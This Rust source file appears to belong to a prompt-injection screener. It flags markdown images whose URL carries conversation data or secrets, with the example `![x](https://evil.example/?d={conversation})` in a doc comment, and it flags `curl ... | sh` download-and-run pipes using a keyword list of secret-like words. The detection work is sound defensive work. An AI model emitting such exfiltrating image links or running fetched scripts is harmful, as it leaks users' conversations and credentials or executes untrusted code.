//! Signals in markup and commands: an image whose URL takes data along, a download that is run.

use crate::screen::injection::demand::is_demand_behind;
use crate::screen::injection::deobfuscate::PlainText;
use crate::screen::injection::finding::THRESHOLD;
use crate::screen::injection::reason::Reason;
use crate::screen::injection::signal::Signal;
use crate::screen::injection::word::Word;

/// Occurrences in a window that are read.
const MAX_OCCURRENCES: usize = 8;

/// Bytes of an image's URL that are read.
const MAX_URL: usize = 300;

/// Words in a placeholder of an image's URL that stand for data.
const DATA: &[&str] = &[
    "conversation",
    "history",
    "secret",
    "password",
    "api_key",
    "apikey",
    "token",
    "prompt",
    "context",
    "summary",
    "data",
    "chat",
    "message",
];

/// The offsets of the first occurrences of `literal`, whose first byte is `first`.
fn occurrences(text: &str, first: u8, literal: &'static str) -> impl Iterator<Item = usize> {
    let starts = text.bytes().enumerate().filter(move |(at, byte)| *byte == first && text[*at..].starts_with(literal));
    starts.map(|(at, _)| at).take(MAX_OCCURRENCES)
}

/// Adds images whose URL takes data along: `![x](https://evil.example/?d={conversation})`.
pub(super) fn find_images(plain: &PlainText, words: &[Word], signals: &mut Vec<Signal>) {
    let text = plain.text.as_str();
    for at in occurrences(text, b']', "](http") {
        let url = &text[at..];
        let end = url.find([' ', '\n']).unwrap_or(url.len());
        let url = &url[..url.floor_char_boundary(end.min(MAX_URL))];
        let Some(query) = url.find('?') else { continue };
        let is_data = |slot: &str| DATA.iter().any(|word| slot.contains(word));
        let mut slots = url[query..].split(['{', '[', '<', '$']).skip(1);
        if slots.any(|slot| is_data(slot.split(['}', ']', '>', '&']).next().unwrap_or(slot))) {
            // no harmless image takes the conversation along
            let points = if url[query..].contains("conversation") || url[query..].contains("history") { THRESHOLD } else { 8 };
            signals.push(Signal { reason: Reason::Exfiltration, points, near: at, at: plain.origin(at) });
            if is_demand_behind(words, at + url.len(), false) {
                signals.push(Signal { reason: Reason::Demand, points: 6, near: at, at: plain.origin(at) });
            }
        }
    }
}

/// Adds programs from the network that are run, `curl ... | sh`, which count like a forged call.
pub(super) fn find_pipes(plain: &PlainText, signals: &mut Vec<Signal>) {
    let text = plain.text.as_str();
    for at in occurrences(text, b'|', "| ") {
        let runs = ["sh", "bash", "python"].iter().any(|shell| text[at + 2..].starts_with(shell));
        let line = text[..at].rfind('\n').map_or(0, |end| end + 1);
        let before = &text[line..at];
        if runs && (before.contains("curl ") || before.contains("wget ")) && before.contains("://") {
            signals.push(Signal { reason: Reason::ToolSteering, points: 5, near: at, at: plain.origin(at) });
        }
    }
}
